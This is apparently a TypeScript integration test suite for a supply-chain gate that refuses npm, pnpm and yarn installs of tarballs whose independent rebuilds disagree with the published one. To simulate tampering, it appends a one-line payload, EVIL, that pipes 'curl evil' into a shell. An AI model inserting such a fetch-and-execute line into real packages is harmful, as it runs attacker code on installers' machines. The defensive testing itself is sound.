import { createHash } from 'node:crypto';
import { mkdir, mkdtemp, readFile, rm, writeFile } from 'node:fs/promises';
import { readFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { execa, type ResultPromise } from 'execa';
import { makeGitPackage, packageJson } from '../fixtures/git-package.js';
import { managerCli, type ManagerCli } from '../fixtures/package-managers.js';
import { publishFromGit } from '../fixtures/publish.js';
import { Farm, freePort, ROOT } from './farm.js';

const CLI = join(ROOT, 'packages/cli/bin/quorum.js');
const PNPM = '9.15.0';
const YARN_CLASSIC = '1.22.22';
const INDEX = (v: string) => `'use strict';\nmodule.exports = function version() {\n  return '${v}';\n};\n`;
const EVIL = "require('child_process').exec('curl evil | sh');\n";

/** A gate process started by the real CLI, its JSON log lines kept. */
interface RunningGate {
  url: string;
  proc: ResultPromise;
  log: () => { msg: string; purl?: string; outcome?: string; [k: string]: unknown }[];
  stop: () => Promise<void>;
}

/** The peak and current resident memory of a process, in bytes. */
function memoryOf(pid: number): { peak: number; now: number } {
  const status = readFileSync(`/proc/${pid}/status`, 'utf8');
  const kb = (field: string) => Number(new RegExp(`^${field}:\\s+(\\d+) kB`, 'm').exec(status)![1]) * 1024;
  return { peak: kb('VmHWM'), now: kb('VmRSS') };
}

describe('quorum gate: npm, pnpm and yarn install only what the farm verified', () => {
  const farm = new Farm({ workers: 2, builders: 2, quorum: 2 });
  const gates: RunningGate[] = [];
  const cli: Partial<Record<'pnpm' | 'yarn-classic', ManagerCli>> = {};
  let gate: RunningGate;

  async function startGate(...args: string[]): Promise<RunningGate> {
    const port = await freePort();
    const cacheDir = await mkdtemp(join(farm.dir, 'gate-cache-'));
    const proc = execa('node', [CLI, 'gate', '--upstream', farm.registry.url, '--server', farm.url, '--port', String(port), '--cache-dir', cacheDir, ...args], {
      reject: false,
      env: { QUORUM_STATE_DIR: join(farm.dir, 'state') },
    });
    let out = '';
    let err = '';
    proc.stdout!.on('data', (d: Buffer) => (out += d.toString()));
    proc.stderr!.on('data', (d: Buffer) => (err += d.toString()));
    await farm.waitFor(async () => out.includes('gate listening on'), 30_000, `the gate to listen (${err})`);
    // two lines, as a person reads them
    expect(out).toMatch(new RegExp(`^gate listening on http://127\\.0\\.0\\.1:${port}/ \\(npm; .*\\)\nuse it: npm config set registry http://127\\.0\\.0\\.1:${port}/\n`));
    const running: RunningGate = {
      url: `http://127.0.0.1:${port}`,
      proc,
      log: () =>
        err
          .split('\n')
          .filter((l) => l.startsWith('{'))
          .map((l) => JSON.parse(l) as { msg: string }),
      stop: async () => {
        proc.kill('SIGTERM');
        await proc;
      },
    };
    gates.push(running);
    return running;
  }

  /** A consumer project with its own npm cache and home, as on a clean machine. */
  async function consumer(): Promise<{ dir: string; env: Record<string, string> }> {
    const dir = await mkdtemp(join(farm.dir, 'consumer-'));
    await writeFile(join(dir, 'package.json'), JSON.stringify({ name: 'consumer', version: '1.0.0', private: true }));
    const home = join(dir, '.home');
    await mkdir(home);
    return { dir, env: { HOME: home, npm_config_cache: join(home, 'npm-cache'), npm_config_update_notifier: 'false' } };
  }

  async function npmInstall(via: RunningGate, spec: string) {
    const c = await consumer();
    const res = await execa('npm', ['install', spec, `--registry=${via.url}/`, '--no-audit', '--no-fund', '--ignore-scripts', '--fetch-retries=0'], { cwd: c.dir, env: c.env, reject: false });
    return { ...res, dir: c.dir };
  }

  const installedVersion = async (dir: string, name: string) => (JSON.parse(await readFile(join(dir, 'node_modules', name, 'package.json'), 'utf8')) as { version: string }).version;

  /** A release published from its tagged source, optionally with a tarball-only change, then verified by the farm. */
  async function release(name: string, version: string, opts: { tamper?: boolean; verify?: boolean } = {}) {
    const pkg = await makeGitPackage(join(farm.dir, 'src', `${name}-${version}`), { 'package.json': packageJson(name, version), 'index.js': INDEX(version) }, `v${version}`);
    const published = await publishFromGit(farm.registry, pkg, { how: 'image', ...(opts.tamper ? { tamper: { file: 'index.js', append: EVIL } } : {}) });
    const view = opts.verify === false ? undefined : await farm.submitAndDecide({ purl: `pkg:npm/${name}@${version}` });
    return { ...published, view };
  }

  beforeAll(async () => {
    await farm.start();
    cli.pnpm = await managerCli(farm.registry, 'pnpm', PNPM);
    cli['yarn-classic'] = await managerCli(farm.registry, 'yarn-classic', YARN_CLASSIC);
    gate = await startGate();
  }, 300_000);
  afterAll(async () => {
    for (const g of gates) await g.stop();
    await farm.stop();
  }, 60_000);

  it('installs a reproducible release with npm, byte for byte the upstream tarball, and counts it as served', async () => {
    const { tarball, view } = await release('gated-ok', '1.0.0');
    expect(view?.verdict?.verdict).toBe('reproducible');
    const res = await npmInstall(gate, 'gated-ok@1.0.0');
    expect(res.exitCode, res.stderr).toBe(0);
    expect(await readFile(join(res.dir, 'node_modules/gated-ok/index.js'), 'utf8')).toBe(INDEX('1.0.0'));
    // the lockfile npm wrote pins the upstream's integrity
    const lock = JSON.parse(await readFile(join(res.dir, 'package-lock.json'), 'utf8')) as { packages: Record<string, { resolved: string; integrity: string }> };
    expect(lock.packages['node_modules/gated-ok']!.integrity).toBe(`sha512-${createHash('sha512').update(tarball).digest('base64')}`);
    expect(gate.log().find((l) => l.purl === 'pkg:npm/gated-ok@1.0.0')).toMatchObject({ outcome: 'served', policy: 'block-mismatch', verdict: 'reproducible' });
    const metrics = await (await fetch(`${gate.url}/-/quorum/metrics`)).text();
    expect(metrics).toMatch(/quorum_gate_tarballs_total\{outcome="served",policy="block-mismatch"\} [1-9]/);
  });

  it('refuses a tarball whose rebuilds disagree with it: npm shows the purl, the risk, the release page and the VSA relied on', async () => {
    const { view } = await release('gated-evil', '1.0.0', { tamper: true });
    expect(view?.verdict?.verdict).toBe('mismatch');
    const res = await npmInstall(gate, 'gated-evil@1.0.0');
    expect(res.exitCode).not.toBe(0);
    expect(res.stderr).toContain('403 Forbidden');
    expect(res.stderr).toContain('Quorum gate refused pkg:npm/gated-evil@1.0.0: its independent rebuilds disagree with the published tarball (mismatch); risk high');
    expect(res.stderr).toContain(`see ${farm.url}/ui/packages/${encodeURIComponent('pkg:npm/gated-evil@1.0.0')}`);
    expect(res.stderr).toMatch(/VSA sha256:[0-9a-f]{64}/);
    // the digest named is that of the farm's signed statement
    const attestations = await farm.json<{ vsa: { dsseEnvelope: { payload: string } } }>('GET', `/v1/attestations/${encodeURIComponent('pkg:npm/gated-evil@1.0.0')}`);
    const digest = createHash('sha256').update(Buffer.from(attestations.vsa.dsseEnvelope.payload, 'base64')).digest('hex');
    expect(res.stderr).toContain(`VSA sha256:${digest}`);
    await expect(readFile(join(res.dir, 'node_modules/gated-evil/index.js'))).rejects.toThrow();
    expect(gate.log().find((l) => l.purl === 'pkg:npm/gated-evil@1.0.0')).toMatchObject({ outcome: 'refused', verdict: 'mismatch' });
    const metrics = await (await fetch(`${gate.url}/-/quorum/metrics`)).text();
    expect(metrics).toMatch(/quorum_gate_tarballs_total\{outcome="refused",policy="block-mismatch"\} [1-9]/);
  });

  it('refuses the mismatch through pnpm and yarn too, and installs the verified release with both', async () => {
    for (const pm of [cli.pnpm!, cli['yarn-classic']!]) {
      for (const [spec, ok] of [
        ['gated-ok@1.0.0', true],
        ['gated-evil@1.0.0', false],
      ] as const) {
        const c = await consumer();
        const args =
          pm.kind === 'pnpm'
            ? ['add', spec, `--registry=${gate.url}/`, `--store-dir=${join(c.dir, '.store')}`, '--ignore-scripts', '--fetch-retries=0']
            : ['add', spec, `--registry=${gate.url}/`, `--cache-folder=${join(c.dir, '.yarn-cache')}`, '--ignore-scripts', '--no-lockfile', '--network-timeout=60000'];
        const res = await execa('node', [pm.cli, ...args], { cwd: c.dir, env: { ...c.env, COREPACK_ENABLE_STRICT: '0' }, reject: false, all: true });
        if (ok) {
          expect(res.exitCode, `${pm.kind}: ${res.all}`).toBe(0);
          expect(await readFile(join(c.dir, 'node_modules/gated-ok/index.js'), 'utf8')).toBe(INDEX('1.0.0'));
        } else {
          expect(res.exitCode, `${pm.kind}: ${res.all}`).not.toBe(0);
          expect(res.all).toMatch(/403/);
          await expect(readFile(join(c.dir, 'node_modules/gated-evil/index.js'))).rejects.toThrow();
        }
      }
    }
  });

  it('with --hide-blocked, ^1.0.0 resolves to the newest version whose tarball is allowed, and latest follows it', async () => {
    await release('gated-range', '1.0.0');
    const bad = await release('gated-range', '1.1.0', { tamper: true });
    expect(bad.view?.verdict?.verdict).toBe('mismatch');
    // without hiding, the range picks the refused version and the install fails
    const refused = await npmInstall(gate, 'gated-range@^1.0.0');
    expect(refused.exitCode).not.toBe(0);
    expect(refused.stderr).toContain('Quorum gate refused pkg:npm/gated-range@1.1.0');
    const hiding = await startGate('--hide-blocked');
    const packument = (await (await fetch(`${hiding.url}/gated-range`)).json()) as { versions: Record<string, unknown>; 'dist-tags': Record<string, string> };
    expect(Object.keys(packument.versions)).toEqual(['1.0.0']);
    expect(packument['dist-tags']).toEqual({ latest: '1.0.0' });
    const res = await npmInstall(hiding, 'gated-range@^1.0.0');
    expect(res.exitCode, res.stderr).toBe(0);
    expect(await installedVersion(res.dir, 'gated-range')).toBe('1.0.0');
    expect(hiding.log().find((l) => l.msg === 'versions hidden from the metadata')).toMatchObject({ package: 'gated-range', hidden: ['1.1.0'] });
  });

  it('require-verified submits a release the farm has never seen, waits for its verdict, then installs it', async () => {
    await release('gated-new', '1.0.0', { verify: false });
    const strict = await startGate('--policy', 'require-verified', '--wait', '280');
    const res = await npmInstall(strict, 'gated-new@1.0.0');
    expect(res.exitCode, res.stderr).toBe(0);
    expect(await installedVersion(res.dir, 'gated-new')).toBe('1.0.0');
    const log = strict.log();
    expect(log.find((l) => l.msg === 'submitted for verification')).toMatchObject({ purl: 'pkg:npm/gated-new@1.0.0' });
    expect(log.find((l) => l.purl === 'pkg:npm/gated-new@1.0.0' && l.outcome)).toMatchObject({ outcome: 'served', policy: 'require-verified', verdict: 'reproducible' });
    const audit = await farm.json<{ entries: { status: string }[] }>('POST', '/v1/audit', { packages: [{ purl: 'pkg:npm/gated-new@1.0.0' }] });
    expect(audit.entries[0]!.status).toBe('reproducible');
  });

  it('require-verified refuses with "verification pending, retry" when the verdict takes longer than the wait', async () => {
    await release('gated-slow', '1.0.0', { verify: false });
    const impatient = await startGate('--policy', 'require-verified', '--wait', '1');
    const res = await fetch(`${impatient.url}/gated-slow/-/gated-slow-1.0.0.tgz`);
    expect(res.status).toBe(503);
    expect(res.headers.get('retry-after')).toBe('60');
    expect(((await res.json()) as { error: string }).error).toMatch(/^Quorum gate refused pkg:npm\/gated-slow@1\.0\.0: not verified: .*verification was asked for, retry in a few minutes/);
    // block-mismatch serves the same unknown tarball, and the farm has it to verify
    const served = await fetch(`${gate.url}/gated-slow/-/gated-slow-1.0.0.tgz`);
    expect(served.status).toBe(200);
    await served.arrayBuffer();
    await farm.waitFor(
      async () => (await farm.json<{ entries: { releaseId: string | null }[] }>('POST', '/v1/audit', { packages: [{ purl: 'pkg:npm/gated-slow@1.0.0' }] })).entries[0]!.releaseId !== null,
      30_000,
      'the gate to submit gated-slow',
    );
  });

  it('with a cooldown, a version published within it passes only when verified, whatever the policy', async () => {
    await release('gated-fresh', '1.0.0', { verify: false });
    const cooling = await startGate('--cooldown', '24', '--wait', '1', '--hide-blocked');
    // never verified and published minutes ago: hidden, so that no range resolves to it
    const packument = (await (await fetch(`${cooling.url}/gated-fresh`)).json()) as { versions: Record<string, unknown>; 'dist-tags': Record<string, string> };
    expect(packument.versions).toEqual({});
    expect(packument['dist-tags']).toEqual({});
    // and asked for directly, refused while its verification is pending
    const fresh = await fetch(`${cooling.url}/gated-fresh/-/gated-fresh-1.0.0.tgz`);
    expect(fresh.status).toBe(503);
    expect(((await fresh.json()) as { error: string }).error).toContain(
      'Quorum gate refused pkg:npm/gated-fresh@1.0.0: published within the cooldown of 24 h, so served only when verified: not verified:',
    );
    // verified minutes ago: served
    const ok = await fetch(`${cooling.url}/gated-ok/-/gated-ok-1.0.0.tgz`);
    expect(ok.status).toBe(200);
    await ok.arrayBuffer();
    expect(cooling.log().find((l) => l.purl === 'pkg:npm/gated-fresh@1.0.0' && l.outcome)).toMatchObject({ outcome: 'pending', policy: 'require-verified', cooldown: true });
  });

  it('with a cooldown, a registry that backdates a new version does not get it installed before it is verified', async () => {
    // a version with no source to rebuild from: the farm's answer stays short of a pass, however fast it comes
    farm.registry.publish({ tarball: Buffer.from('not rebuilt from any source'), manifest: { name: 'gated-backdated', version: '1.0.0' } });
    // the upstream claims the version is years old; the farm has never seen it
    farm.registry.setTime('gated-backdated', '1.0.0', '2015-06-01T00:00:00.000Z');
    const cooling = await startGate('--cooldown', '24', '--wait', '1', '--hide-blocked');
    const packument = (await (await fetch(`${cooling.url}/gated-backdated`)).json()) as { versions: Record<string, unknown> };
    expect(packument.versions).toEqual({});
    // a hidden version is never asked for: the farm learns of it from the packument
    await farm.waitFor(
      async () => (await farm.json<{ entries: { releaseId: string | null }[] }>('POST', '/v1/audit', { packages: [{ purl: 'pkg:npm/gated-backdated@1.0.0' }] })).entries[0]!.releaseId !== null,
      30_000,
      'the gate to submit the hidden gated-backdated',
    );
    for (let attempt = 0; attempt < 2; attempt++) {
      // asked again once the gate submitted it: the farm has it now, but only since a moment ago
      const res = await fetch(`${cooling.url}/gated-backdated/-/gated-backdated-1.0.0.tgz`);
      // pending (503), or decided short of a pass (403): never served
      expect([403, 503]).toContain(res.status);
      expect(((await res.json()) as { error: string }).error).toContain(
        "Quorum gate refused pkg:npm/gated-backdated@1.0.0: new to the farm within the cooldown of 24 h (a registry's publish time is not taken on its word), so served only when verified",
      );
    }
    // without a cooldown, the default policy serves what the farm has not verified but found no fault in
    const plain = await fetch(`${gate.url}/gated-backdated/-/gated-backdated-1.0.0.tgz`);
    expect(plain.status).toBe(200);
    await plain.arrayBuffer();
  });

  it('serves nothing unchecked when the farm cannot be reached, and answers bad requests with 4xx', async () => {
    const port = await freePort();
    const blind = await startGate('--server', `http://127.0.0.1:${port}`, '--hide-blocked');
    const res = await fetch(`${blind.url}/gated-ok/-/gated-ok-1.0.0.tgz`);
    expect(res.status).toBe(503);
    expect(((await res.json()) as { error: string }).error).toMatch(/cannot check pkg:npm\/gated-ok@1\.0\.0: the farm at .* cannot be reached; retry later/);
    // hiding versions only helps resolution: without the farm the packument is served whole, each tarball still judged
    const packument = await fetch(`${blind.url}/gated-ok`);
    expect(packument.status).toBe(200);
    expect(Object.keys(((await packument.json()) as { versions: Record<string, unknown> }).versions)).toEqual(['1.0.0']);
    // what the upstream wrote is data: never sniffed into a page
    expect(packument.headers.get('x-content-type-options')).toBe('nosniff');
    expect(packument.headers.get('content-type')).toMatch(/^application\/json/);
    expect((await fetch(`${gate.url}/no-such-package-here`)).status).toBe(404);
    expect((await fetch(`${gate.url}/gated-ok/-/gated-ok-9.9.9.tgz`)).status).toBe(404);
    expect((await fetch(`${gate.url}/gated-ok`, { method: 'PUT', body: '{}' })).status).toBe(405);
    expect((await fetch(`${gate.url}/-/v1/search?text=x`)).status).toBe(404);
    expect((await fetch(`${gate.url}/%E0%A4%A`)).status).toBe(400);
  });

  it('streams a 100 MB tarball to npm with bounded memory, the bytes unchanged', async () => {
    // random bytes do not compress: the tarball is as large as its content
    const dir = await mkdtemp(join(tmpdir(), 'quorum-big-'));
    try {
      await mkdir(join(dir, 'package'));
      await writeFile(join(dir, 'package/package.json'), packageJson('gated-big', '1.0.0'));
      await execa('head', ['-c', String(100 * 2 ** 20), '/dev/urandom'], { stdout: { file: join(dir, 'package/blob.bin') } });
      await execa('tar', ['-czf', 'big.tgz', 'package'], { cwd: dir, env: { GZIP: '-1' } });
      const tarball = await readFile(join(dir, 'big.tgz'));
      expect(tarball.length).toBeGreaterThan(100 * 2 ** 20);
      farm.registry.publish({ tarball, manifest: { name: 'gated-big', version: '1.0.0' } });
      const fresh = await startGate();
      // what a gate allocates once (its first download, audit and answer) is paid before measuring
      expect((await fetch(`${fresh.url}/gated-ok/-/gated-ok-1.0.0.tgz`)).status).toBe(200);
      const before = memoryOf(fresh.proc.pid!);
      const res = await npmInstall(fresh, 'gated-big@1.0.0');
      expect(res.exitCode, res.stderr).toBe(0);
      const installed = await readFile(join(res.dir, 'node_modules/gated-big/blob.bin'));
      expect(createHash('sha256').update(installed).digest('hex')).toBe(
        createHash('sha256')
          .update(await readFile(join(dir, 'package/blob.bin')))
          .digest('hex'),
      );
      const after = memoryOf(fresh.proc.pid!);
      // a gate holding the tarball in memory would grow by at least its 100 MB (measured: about 30 MB,
      // the same for 300 MB)
      expect(after.peak - before.peak).toBeLessThan(64 * 2 ** 20);
    } finally {
      await rm(dir, { recursive: true, force: true });
    }
  });
});
